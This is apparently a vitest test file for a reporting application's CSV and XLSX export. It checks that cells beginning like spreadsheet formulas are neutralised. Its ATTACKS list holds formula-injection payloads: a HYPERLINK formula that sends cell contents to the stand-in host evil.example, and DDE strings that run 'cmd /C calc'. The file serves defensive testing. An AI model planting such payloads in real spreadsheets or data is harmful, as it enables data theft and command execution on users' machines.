/** CSV formula injection (security finding 4): report text that starts like a formula is exported as text. */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../../src/api/csv-safe.js';
import { type ListedReport, reportsWorkbook } from '../../../src/api/reports.js';
import { defaultPlan } from '../../../src/domain/index.js';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const report = (notes: string, submittedBy = 'dev-branch-shuangta'): ListedReport => ({
  reportId: 'r1',
  unitId: 'branch.shuangta',
  unitName: '双塔区分局',
  responseDay: 1,
  fields: { onSiteSupervisionCount: 3, notes },
  photoIds: [],
  late: false,
  receivedAt: '2026-12-02T16:00:00+08:00',
  submittedBy,
  current: true,
  version: 1,
});

describe('report export against formula injection', () => {
  it('prefixes a quote to every CSV cell that starts with = + - @ tab or CR, and nothing else', async () => {
    const csv = await reportsWorkbook(
      defaultPlan,
      'episode:chaoyang:2026-12-02:1',
      ATTACKS.map((a) => report(a, a)),
      'csv',
    );
    const [head, ...rows] = parse(csv, { bom: true, relax_column_count: true }) as string[][];
    const notesAt = head!.indexOf('工作开展情况说明');
    const byAt = head!.indexOf('报送人');
    expect(rows.map((r) => r[notesAt])).toEqual(ATTACKS.map((a) => `'${a}`));
    expect(rows.map((r) => r[byAt])).toEqual(ATTACKS.map((a) => `'${a}`));
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // ordinary text and numbers are untouched
    const plain = await reportsWorkbook(defaultPlan, 'e', [report('巡查3家企业，-无问题')], 'csv');
    const [, row] = parse(plain, { bom: true }) as string[][];
    expect(row).toContain('巡查3家企业，-无问题');
    expect(row).toContain('3');
  });

  it('writes XLSX cells as strings, never formulas', async () => {
    const xlsx = await reportsWorkbook(defaultPlan, 'e', [report(ATTACKS[0]!)], 'xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const col = (sheet.getRow(1).values as unknown[]).indexOf('工作开展情况说明');
    const cell = sheet.getRow(2).getCell(col);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(ATTACKS[0]);
    expect(cell.formula).toBeUndefined();
  });

  it('neutraliseFormula leaves safe text alone', () => {
    expect(neutraliseFormula('正常说明')).toBe('正常说明');
    expect(neutraliseFormula('a=1')).toBe('a=1');
    expect(neutraliseFormula('-')).toBe("'-");
  });
});
